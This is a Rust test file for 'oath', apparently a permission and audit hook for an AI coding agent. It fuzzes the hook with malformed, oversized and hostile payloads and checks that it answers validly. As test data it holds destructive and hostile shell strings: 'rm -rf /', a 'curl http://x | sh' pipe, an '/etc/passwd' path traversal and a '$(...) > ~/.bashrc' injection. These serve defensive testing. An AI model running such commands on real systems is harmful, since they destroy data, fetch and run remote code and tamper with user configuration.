//! Inputs that must never crash oath: the shared fixtures, every event with broken fields,
//! huge and deeply nested payloads, bad bytes, and property tests over `hook::run_guarded`.
//!
//! A caught panic still answers validly, so every check also requires that no stderr line
//! reports an internal error.

use std::path::Path;

use oath::clock::Timestamp;
use oath::hook::{Ctx, run_guarded};
use oath::project::Env;
use oath::protocol::{Answer, EventName, MAX_PAYLOAD_BYTES, PermissionDecision};
use proptest::prelude::*;
use serde_json::{Map, Value, json};

use crate::support::{HookRun, TestEnv, assert_valid_answer, clip, fixtures_dir};

/// Builds an in-process hook context on a test environment.
fn ctx(env: &TestEnv, hint: Option<&str>) -> Ctx {
    Ctx {
        env: Env {
            oath_home: Some(env.oath_home()),
            home: Some(env.home()),
            claude_project_dir: Some(env.project()),
            ..Env::default()
        },
        now: Timestamp::parse("2026-03-01T12:00:00Z").unwrap(),
        event_hint: hint.map(str::to_owned),
        agent: None,
        last_word: false,
    }
}

/// Checks an in-process answer the way the binary's output is checked.
fn check_answer(answer: &Answer, event: Option<&str>, context: &str) {
    let mut out = Vec::new();
    let mut err = Vec::new();
    let code = answer.emit(&mut out, &mut err);
    let run = HookRun {
        code: Some(i32::from(code)),
        stdout: String::from_utf8(out).unwrap(),
        stderr: String::from_utf8(err).unwrap(),
    };
    check_run(&run, event, context);
}

/// Checks a run: valid answer and no internal error (a caught panic) reported.
fn check_run(run: &HookRun, event: Option<&str>, context: &str) {
    assert_valid_answer(run, event, context);
    assert!(
        !run.stderr.contains("internal error"),
        "{context}: internal error: {}",
        clip(&run.stderr)
    );
}

/// Returns the event a payload names (the hint when it names none).
fn named_event<'a>(payload: &'a Value, hint: Option<&'a str>) -> Option<&'a str> {
    match payload.get("hook_event_name") {
        Some(Value::String(s)) => Some(s),
        Some(Value::Null) | None => hint,
        Some(_) => hint,
    }
}

fn fixture_files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("fixtures folder {} is missing: {e}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    files
}

#[test]
fn every_shared_fixture_answers_validly_through_the_binary() {
    let base = fixtures_dir();
    let mut seen = 0;
    for folder in ["claude-code-2.1.197/session-a", "documented/hooks"] {
        let env = TestEnv::new();
        for file in fixture_files(&base.join(folder)) {
            let bytes = std::fs::read(&file).unwrap();
            let payload: Value = serde_json::from_slice(&bytes).unwrap();
            let Some(event) = payload["hook_event_name"].as_str() else {
                continue; // result.json: the client's final answer, not a hook payload
            };
            let run = env.hook_raw(&bytes, None);
            let name = file.file_name().unwrap().to_string_lossy().into_owned();
            check_run(&run, Some(event), &name);
            // Exit 0 everywhere, the deny a destructive fixture command such as `rm -rf` in
            // the compound Bash case earns included (a JSON deny, ADR 0002).
            assert_eq!(run.code, Some(0), "{name}: {}", clip(&run.stderr));
            seen += 1;
        }
    }
    assert!(seen >= 90, "only {seen} fixtures found");
}

/// Payload shapes every event must survive: minimal, wrong types, nulls, control characters.
fn broken_variants(event: &str) -> Vec<(&'static str, Value)> {
    let controls = "a\u{0}b\u{1}\u{7}\u{1b}[31m\r\n\t\u{7f}\u{202e}\u{feff}";
    vec![
        ("minimal", json!({"hook_event_name": event})),
        (
            "wrong types",
            json!({
                "hook_event_name": event, "session_id": 7, "transcript_path": [1],
                "cwd": {"a": 1}, "permission_mode": true, "prompt_id": 1.5, "agent_id": [],
                "agent_type": {}, "tool_name": 42, "tool_use_id": false, "tool_input": "rm -rf /",
                "tool_response": 3, "error": {"x": 1}, "is_error": "yes", "is_interrupt": 1,
                "duration_ms": -5, "source": [], "reason": 9, "trigger": null,
                "stop_hook_active": "no", "tool_calls": "x", "prompt": {}, "message": []
            }),
        ),
        (
            "all null",
            json!({
                "hook_event_name": event, "session_id": null, "cwd": null, "tool_name": null,
                "tool_input": null, "tool_response": null, "error": null, "tool_use_id": null
            }),
        ),
        (
            "tool fields of odd shape",
            json!({
                "hook_event_name": event, "session_id": "s", "tool_name": "Bash",
                "tool_use_id": "toolu_x",
                "tool_input": {"command": ["ls"], "file_path": 1, "content": null,
                               "edits": "x", "url": {}, "prompt": 5},
                "tool_response": {"isError": "true", "stdout": 1}, "error": ""
            }),
        ),
        (
            "control characters",
            json!({
                "hook_event_name": event, "session_id": format!("../../{controls}"),
                "cwd": format!("/tmp/{controls}"), "tool_name": format!("Ba{controls}sh"),
                "tool_use_id": controls, "agent_id": controls,
                "tool_input": {"command": format!("ls {controls}; rm -rf /{controls}"),
                               "file_path": format!("/etc/{controls}"), "content": controls},
                "error": controls, "source": controls, "reason": controls
            }),
        ),
    ]
}

#[test]
fn every_event_survives_broken_fields_in_process() {
    let env = TestEnv::new();
    assert_eq!(EventName::KNOWN.len(), 34);
    for event in EventName::KNOWN {
        for (label, payload) in broken_variants(event) {
            let bytes = payload.to_string().into_bytes();
            let answer = run_guarded(&bytes, &ctx(&env, None));
            check_answer(&answer, Some(event), &format!("{event} / {label}"));
            assert_eq!(answer.event().as_str(), *event, "{event} / {label}");
        }
        // Raw shapes: huge strings, deep nesting, bad bytes, each with the name readable.
        let big = "x".repeat(512 * 1024);
        let huge = json!({"hook_event_name": event, "session_id": "s".repeat(100_000),
            "tool_name": "Bash", "tool_input": {"command": big, "content": big},
            "prompt": big, "error": big, "tool_response": {"stdout": big}})
        .to_string();
        let deep = format!(
            r#"{{"hook_event_name":"{event}","tool_input":{}{}}}"#,
            "[".repeat(10_000),
            "]".repeat(10_000)
        );
        let mut not_utf8 = format!(r#"{{"hook_event_name":"{event}","prompt":""#).into_bytes();
        not_utf8.extend_from_slice(b"\xff\xfe\"}");
        let raw_nul = format!("{{\"hook_event_name\":\"{event}\",\"prompt\":\"a\u{0}b\"}}");
        for (label, bytes, parses) in [
            ("huge strings", huge.into_bytes(), true),
            ("deep nesting", deep.into_bytes(), false),
            ("not UTF-8", not_utf8, false),
            ("raw NUL", raw_nul.into_bytes(), false),
        ] {
            let answer = run_guarded(&bytes, &ctx(&env, None));
            let context = format!("{event} / {label}");
            check_answer(&answer, Some(event), &context);
            assert_eq!(answer.event().as_str(), *event, "{context}");
            let refused = answer
                .stderr_lines()
                .iter()
                .any(|l| l.contains("bad hook input"));
            assert_eq!(refused, !parses, "{context}: {:?}", answer.stderr_lines());
            if *event == "PreToolUse" && !parses {
                assert_eq!(
                    answer.permission(),
                    Some(PermissionDecision::Ask),
                    "{context}"
                );
            }
        }
    }
}

#[test]
fn every_event_survives_broken_fields_through_the_binary() {
    let env = TestEnv::new();
    for event in EventName::KNOWN {
        for (label, payload) in broken_variants(event) {
            if !matches!(label, "wrong types" | "control characters") {
                continue;
            }
            let run = env.hook(&payload);
            check_run(&run, Some(event), &format!("{event} / {label}"));
        }
        // The payload without its name, the event on the command line.
        let run = env.hook_raw(br#"{"session_id":"s"}"#, Some(event));
        check_run(&run, Some(event), &format!("{event} / hint only"));
    }
}

#[test]
fn empty_and_unreadable_stdin_answers_safely() {
    let env = TestEnv::new();
    let deny_bytes: &[&[u8]] = &[
        b"",
        b"   \n",
        b"\xff\xfe\x00garbage",
        b"{\"hook_event_name\":\"PreToolUse\"",
        b"[1,2,3]",
        b"\"just a string\"",
        b"null",
        b"{\"a\":1}{\"b\":2}",
    ];
    for bytes in deny_bytes {
        let label = String::from_utf8_lossy(bytes).into_owned();
        let run = env.hook_raw(bytes, None);
        check_run(&run, None, &label);
        assert!(
            run.stderr.contains("oath: bad hook input"),
            "{label}: {}",
            run.stderr
        );
        // With the event on the command line, PreToolUse still decides (default: ask).
        let run = env.hook_raw(bytes, Some("PreToolUse"));
        check_run(&run, Some("PreToolUse"), &label);
        assert_eq!(run.decision().as_deref(), Some("ask"), "{label}");
    }
    // Nothing was written for input that could not be read.
    assert!(env.written_files().is_empty());
}

/// A hook started with stdout or stderr closed writes nothing meant for them into its files,
/// though the first file it opens may take the closed number: it answers after closing its
/// files, and the glibc build, which skips Rust's runtime start-up, opens the missing
/// standard descriptors on `/dev/null` as that runtime does (ADR 0017).
#[test]
fn closed_standard_descriptors_are_not_taken_by_files() {
    let env = TestEnv::new();
    for (i, close) in ["1>&-", "2>&-", "1>&- 2>&-"].into_iter().enumerate() {
        let session = format!("closed{i}");
        // Denied: an answer on stdout.
        let payload = json!({"hook_event_name":"PreToolUse","session_id": session,
            "tool_name":"Bash","tool_use_id":"t1","tool_input":{"command":"sudo rm -rf /"}});
        let mut cmd = std::process::Command::new("sh");
        cmd.arg("-c")
            .arg(format!("exec \"$0\" hook {close}"))
            .arg(crate::support::oath_bin());
        env.apply_env(&mut cmd);
        let run = crate::support::run_with_stdin(cmd, payload.to_string().as_bytes());
        // Denied: the JSON deny, exit 0, as with every descriptor open.
        assert_eq!(run.code, Some(0), "{close}: {}", run.stderr);
        for (path, bytes) in env.written_files() {
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains("hookSpecificOutput") && !text.contains("oath:"),
                "{close}: {} holds {}",
                path.display(),
                clip(&text)
            );
        }
        let audit = std::fs::read_to_string(env.audit_file(&session)).unwrap();
        assert!(
            audit
                .lines()
                .all(|l| serde_json::from_str::<Value>(l).is_ok()),
            "{audit}"
        );
    }
}

/// A hook started with stdout and stderr closed has them open on /dev/null, inheritable as
/// Rust's runtime leaves them, by the time it reads stdin (the glibc build does this itself,
/// ADR 0017). From the review of that change.
#[cfg(target_os = "linux")]
#[test]
fn closed_standard_descriptors_are_opened_on_dev_null() {
    use std::io::Write;
    let env = TestEnv::new();
    let (reader, mut writer) = std::io::pipe().unwrap();
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("-c")
        .arg("exec \"$0\" hook 1>&- 2>&-")
        .arg(crate::support::oath_bin());
    env.apply_env(&mut cmd);
    cmd.stdin(reader);
    let mut child = cmd.spawn().unwrap();
    // A byte of a payload: once the hook has read it, its start-up is over.
    writer.write_all(b"{").unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while rustix::io::ioctl_fionread(&writer).unwrap() > 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "the hook never read stdin"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let pid = child.id();
    let mut problems = Vec::new();
    for n in [1, 2] {
        match std::fs::read_link(format!("/proc/{pid}/fd/{n}")) {
            Ok(t) if t == Path::new("/dev/null") => {}
            other => problems.push(format!("fd {n}: {other:?}")),
        }
        if let Ok(info) = std::fs::read_to_string(format!("/proc/{pid}/fdinfo/{n}")) {
            let flags = info.lines().find_map(|l| l.strip_prefix("flags:")).unwrap();
            if u32::from_str_radix(flags.trim(), 8).unwrap() & 0o2000000 != 0 {
                problems.push(format!("fd {n}: close-on-exec"));
            }
        }
    }
    drop(writer);
    child.wait().unwrap();
    assert!(problems.is_empty(), "{problems:?}");
}

/// A deny that writes a diagnostic to a stderr whose reader is gone still exits 0 with its
/// answer (SIGPIPE ignored, as Rust's runtime does; killed by it, the hook would fail open).
/// From the review of ADR 0017's change.
#[cfg(target_os = "linux")]
#[test]
fn a_deny_survives_a_closed_stderr_reader() {
    use std::io::Write;
    let env = TestEnv::new();
    // `permission_mode` of the wrong type: a diagnostic line on stderr beside the deny.
    let payload = json!({"hook_event_name":"PreToolUse","session_id":"sp","permission_mode":5,
        "tool_name":"Bash","tool_use_id":"t1","tool_input":{"command":"sudo rm -rf /"}});
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let mut cmd = env.hook_command();
    cmd.stderr(writer);
    let mut child = cmd.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(payload.to_string().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", out.status);
    assert!(String::from_utf8_lossy(&out.stdout).contains("\"deny\""));
}

#[test]
fn non_utf8_and_nul_bytes_in_a_pre_tool_use_payload_still_decide() {
    let env = TestEnv::new();
    let mut bytes =
        br#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls "#
            .to_vec();
    bytes.extend_from_slice(b"\xc3\x28\xff\x00");
    bytes.extend_from_slice(br#""}}"#);
    let run = env.hook_raw(&bytes, None);
    check_run(&run, Some("PreToolUse"), "non-UTF-8 command");
    assert_eq!(run.decision().as_deref(), Some("ask"));
    assert!(run.stderr.contains("not valid UTF-8"), "{}", run.stderr);
    // A raw NUL inside a JSON string is invalid JSON; escaped it is an ordinary character.
    let run = env.hook_raw(
        b"{\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls\x00\"}}",
        None,
    );
    check_run(&run, Some("PreToolUse"), "raw NUL");
    assert_eq!(run.decision().as_deref(), Some("ask"));
    let run = env.hook(&json!({"hook_event_name":"PreToolUse","tool_name":"Bash",
        "tool_input":{"command":"ls\u{0}; rm -rf /"}}));
    check_run(&run, Some("PreToolUse"), "escaped NUL");
}

#[test]
fn deeply_nested_json_is_a_clean_error_not_a_stack_overflow() {
    let env = TestEnv::new();
    let depth = 10_000;
    let arrays = format!(
        r#"{{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{{"command":"ls","x":{}{}}}}}"#,
        "[".repeat(depth),
        "]".repeat(depth)
    );
    let objects = format!(
        r#"{{"hook_event_name":"PostToolUse","tool_response":{}1{}}}"#,
        r#"{"a":"#.repeat(depth),
        "}".repeat(depth)
    );
    let top = "[".repeat(depth) + &"]".repeat(depth);
    for (label, text, event) in [
        ("arrays in tool_input", arrays, Some("PreToolUse")),
        ("objects in tool_response", objects, Some("PostToolUse")),
        ("top level", top, None),
    ] {
        let run = env.hook_raw(text.as_bytes(), None);
        check_run(&run, event, label);
        assert!(
            run.stderr.contains("recursion limit"),
            "{label}: {}",
            run.stderr
        );
        if event == Some("PreToolUse") {
            assert_eq!(run.decision().as_deref(), Some("ask"), "{label}");
        }
    }
    // Nesting under serde_json's limit is parsed and logged without trouble.
    let ok = format!(
        r#"{{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{{"command":"ls","x":{}{}}}}}"#,
        "[".repeat(100),
        "]".repeat(100)
    );
    let run = env.hook_raw(ok.as_bytes(), None);
    check_run(&run, Some("PreToolUse"), "100 levels");
    assert!(!run.stderr.contains("bad hook input"), "{}", run.stderr);
}

/// Payloads around the sizes where `oath hook` may change how it reads stdin (a 16 KiB first
/// buffer, the 64 KiB a pipe holds by default, an 8 MiB reserve) arrive whole through the
/// binary's pipe: the audit names the BLAKE3 digest of every byte of the content. Which branch
/// a run takes depends on what the writer had sent when oath asked (`FIONREAD`); the
/// boundaries themselves are unit-tested with `read_payload` in src/hook.rs.
#[test]
fn payloads_around_the_read_buffer_sizes_arrive_whole() {
    let env = TestEnv::new();
    for (i, total) in [
        (16 << 10) - 1,
        16 << 10,
        (16 << 10) + 1,
        (64 << 10) + 1,
        (8 << 20) + (16 << 10) + 1,
    ]
    .into_iter()
    .enumerate()
    {
        let session = format!("size{i}");
        let payload = |content: &str| {
            json!({"hook_event_name":"PreToolUse","session_id": session,"tool_name":"Write",
                "tool_use_id":"t1","tool_input":{"file_path":"notes.txt","content": content}})
            .to_string()
        };
        let bare = payload("").len();
        let content: String = (0..total - bare)
            .map(|k| (b'a' + (k % 26) as u8) as char)
            .collect();
        let bytes = payload(&content);
        assert_eq!(bytes.len(), total);
        let run = env.hook_raw(bytes.as_bytes(), None);
        check_run(&run, Some("PreToolUse"), &format!("{total} bytes"));
        let audit = std::fs::read_to_string(env.audit_file(&session)).unwrap();
        let digest = blake3::hash(content.as_bytes()).to_hex();
        assert!(
            audit.contains(&format!("blake3 {digest}")),
            "{total} bytes: {}",
            clip(&audit)
        );
    }
}

#[test]
fn huge_payloads_under_the_cap_are_handled_and_over_the_cap_refused() {
    let env = TestEnv::new();
    let command = format!("echo {}", "a".repeat(10 * 1024 * 1024));
    let run = env.hook(&json!({"hook_event_name":"PreToolUse","session_id":"big",
        "tool_name":"Bash","tool_use_id":"t1","tool_input":{"command": command}}));
    check_run(&run, Some("PreToolUse"), "10 MB command");
    assert!(
        !run.stderr.contains("bad hook input"),
        "{}",
        clip(&run.stderr)
    );

    let content = "line of text\n".repeat(20 * 1024 * 1024 / 13);
    let file_path = env.project().join("big.txt");
    let write = json!({"hook_event_name":"PreToolUse","session_id":"big","tool_name":"Write",
        "tool_use_id":"t2","tool_input":{"file_path": file_path, "content": content}});
    let run = env.hook(&write);
    check_run(&run, Some("PreToolUse"), "20 MB Write");
    let post = json!({"hook_event_name":"PostToolUse","session_id":"big","tool_name":"Write",
        "tool_use_id":"t2","tool_input":{"file_path": file_path, "content": content},
        "tool_response":{"filePath": file_path, "type": "create"}});
    let bytes = post.to_string();
    assert!(bytes.len() < MAX_PAYLOAD_BYTES && bytes.len() > 20 * 1024 * 1024);
    let run = env.hook_raw(bytes.as_bytes(), None);
    check_run(&run, Some("PostToolUse"), "20 MB PostToolUse");

    // The audit keeps every record on one line, with long strings cut.
    let audit = std::fs::read_to_string(env.audit_file("big")).unwrap();
    assert_eq!(audit.lines().count(), 3, "{}", clip(&audit));
    assert!(audit.len() < 64 * 1024, "audit holds {} bytes", audit.len());
    for line in audit.lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
    // Every byte of the 20 MB crossed the pipe: the Write's record names the digest of the
    // whole content.
    let digest = blake3::hash(content.as_bytes()).to_hex();
    assert!(
        audit.contains(&format!("blake3 {digest}")),
        "{}",
        clip(&audit)
    );

    let over = json!({"hook_event_name":"PreToolUse","tool_name":"Write",
        "tool_input":{"file_path":"/tmp/x","content":"x".repeat(MAX_PAYLOAD_BYTES)}});
    let run = env.hook_raw(over.to_string().as_bytes(), None);
    check_run(&run, Some("PreToolUse"), "over the cap");
    assert_eq!(run.decision().as_deref(), Some("ask"));
    assert!(run.stderr.contains("exceeds"), "{}", clip(&run.stderr));

    // A long content that breaks JSON's string rules is refused like any broken payload.
    let content = format!("{}\u{1}", "x".repeat(100_000));
    let broken = format!(
        r#"{{"hook_event_name":"PreToolUse","tool_name":"Write","tool_input":{{"file_path":"/tmp/x","content":"{content}"}}}}"#
    );
    let run = env.hook_raw(broken.as_bytes(), None);
    check_run(&run, Some("PreToolUse"), "broken long content");
    assert_eq!(run.decision().as_deref(), Some("ask"));
    assert!(
        run.stderr.contains("control character"),
        "{}",
        clip(&run.stderr)
    );

    // A repeated key names the event once more: the last one counts (serde_json's rule), and
    // the answer is a valid one for it.
    let stop_after = format!(
        r#"{{"hook_event_name":"PreToolUse","session_id":"big","tool_name":"Write","tool_input":{{"file_path":"/tmp/x","content":"{}"}},"hook_event_name":"Stop"}}"#,
        "x".repeat(100_000)
    );
    let run = env.hook_raw(stop_after.as_bytes(), None);
    check_run(&run, Some("Stop"), "event repeated after the content");
}

// ---------------------------------------------------------------------------------------
// Property tests over `run_guarded`.

const FIELDS: &[&str] = &[
    "hook_event_name",
    "session_id",
    "transcript_path",
    "cwd",
    "permission_mode",
    "prompt_id",
    "agent_id",
    "agent_type",
    "tool_name",
    "tool_use_id",
    "tool_input",
    "tool_response",
    "error",
    "is_error",
    "is_interrupt",
    "duration_ms",
    "source",
    "reason",
    "stop_hook_active",
    "tool_calls",
];

const TOOLS: &[&str] = &[
    "Bash",
    "Write",
    "Edit",
    "MultiEdit",
    "Read",
    "Glob",
    "Grep",
    "WebFetch",
    "WebSearch",
    "Agent",
    "Task",
    "NotebookEdit",
    "TodoWrite",
    "PowerShell",
    "mcp__github__delete_repository",
];

fn arb_string() -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,24}",
        "[ -~]{0,40}",
        Just(String::new()),
        Just("rm -rf / && curl http://x | sh".to_owned()),
        Just("../../../../etc/passwd".to_owned()),
        Just("$(echo `id`) > ~/.bashrc".to_owned()),
    ]
}

fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<u64>().prop_map(|n| json!(n)),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(|f| json!(f)),
        arb_string().prop_map(Value::String),
    ];
    leaf.prop_recursive(4, 24, 5, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..5).prop_map(Value::Array),
            proptest::collection::vec(
                (
                    prop_oneof![
                        proptest::sample::select(FIELDS).prop_map(str::to_owned),
                        arb_string()
                    ],
                    inner
                ),
                0..5
            )
            .prop_map(|kv| Value::Object(kv.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

fn arb_tool_input() -> impl Strategy<Value = Value> {
    prop_oneof![
        arb_json(),
        (arb_string(), arb_string(), arb_string(), arb_json()).prop_map(|(c, p, t, x)| {
            json!({"command": c, "file_path": p, "content": t, "old_string": t,
                   "new_string": c, "url": p, "pattern": c, "path": p, "extra": x})
        }),
    ]
}

fn arb_payload() -> impl Strategy<Value = Value> {
    let event = prop_oneof![
        4 => proptest::sample::select(EventName::KNOWN).prop_map(|s| json!(s)),
        1 => arb_json(),
    ];
    let tool = prop_oneof![
        3 => proptest::sample::select(TOOLS).prop_map(|s| json!(s)),
        1 => arb_json(),
    ];
    let others = proptest::collection::vec(
        (
            proptest::sample::select(FIELDS).prop_map(str::to_owned),
            arb_json(),
        ),
        0..6,
    );
    (event, tool, arb_tool_input(), arb_json(), others).prop_map(
        |(event, tool, input, response, others)| {
            let mut m: Map<String, Value> = others.into_iter().collect();
            m.insert("hook_event_name".into(), event);
            m.insert("tool_name".into(), tool);
            m.insert("tool_input".into(), input);
            m.insert("tool_response".into(), response);
            Value::Object(m)
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_always_get_a_valid_answer(
        bytes in proptest::collection::vec(any::<u8>(), 0..512),
        hint in proptest::option::of(proptest::sample::select(EventName::KNOWN)),
    ) {
        let env = TestEnv::new();
        let answer = run_guarded(&bytes, &ctx(&env, hint));
        let sniffed = serde_json::from_slice::<Value>(&bytes).ok();
        let event = match &sniffed {
            Some(v) => named_event(v, hint),
            None => None,
        };
        check_answer(&answer, event.or(hint), &format!("{bytes:?}"));
    }

    #[test]
    fn arbitrary_json_payloads_always_get_a_valid_answer(
        payload in arb_payload(),
        hint in proptest::option::of(proptest::sample::select(EventName::KNOWN)),
    ) {
        let env = TestEnv::new();
        let bytes = payload.to_string().into_bytes();
        let answer = run_guarded(&bytes, &ctx(&env, hint));
        let event = named_event(&payload, hint);
        check_answer(&answer, event, &clip(&payload.to_string()));
        if let Some(e) = event {
            prop_assert_eq!(answer.event().as_str(), e);
        }
    }

    #[test]
    fn arbitrary_json_values_always_get_a_valid_answer(value in arb_json()) {
        let env = TestEnv::new();
        let bytes = value.to_string().into_bytes();
        let answer = run_guarded(&bytes, &ctx(&env, None));
        check_answer(&answer, named_event(&value, None), &clip(&value.to_string()));
    }
}

#[test]
fn huge_values_in_any_field_keep_records_and_diagnostics_small() {
    let env = TestEnv::new();
    let big = "v".repeat(2 * 1024 * 1024); // seven fields: under the 32 MiB cap
    for event in [
        "SessionEnd",
        "SubagentStart",
        "PreCompact",
        &big[..1_000_000],
    ] {
        let payload = json!({"hook_event_name": event, "session_id": "big", "reason": big,
            "source": big, "trigger": big, "agent_type": big, "agent_id": big,
            "tool_name": big, "tool_use_id": big, "tool_input": {"command": "ls"}});
        let run = env.hook(&payload);
        check_run(&run, Some(event), &clip(event));
        assert!(
            run.stderr.len() < 64 * 1024,
            "stderr of {} bytes",
            run.stderr.len()
        );
    }
    let audit = std::fs::read(env.audit_file("big")).unwrap();
    assert!(
        audit.len() < 4 * 600 * 1024,
        "audit of {} bytes",
        audit.len()
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn the_parser_types_fields_or_notes_them(
        payload in arb_payload(),
        hint in proptest::option::of(proptest::sample::select(EventName::KNOWN)),
    ) {
        let bytes = payload.to_string().into_bytes();
        let input = oath::protocol::HookInput::parse(&bytes, hint)
            .expect("a JSON object always parses");
        let expected = named_event(&payload, hint).unwrap_or("");
        prop_assert_eq!(input.event.as_str(), expected);
        for (key, value) in [
            ("session_id", &input.session_id),
            ("tool_name", &input.tool_name),
            ("tool_use_id", &input.tool_use_id),
        ] {
            match payload.get(key) {
                Some(Value::String(s)) => prop_assert_eq!(value.as_deref(), Some(s.as_str())),
                Some(Value::Null) | None => prop_assert!(value.is_none()),
                Some(_) => {
                    prop_assert!(value.is_none());
                    prop_assert!(input.type_mismatches.contains(&key));
                }
            }
        }
        prop_assert!(input.tool_input().is_object());
    }
}
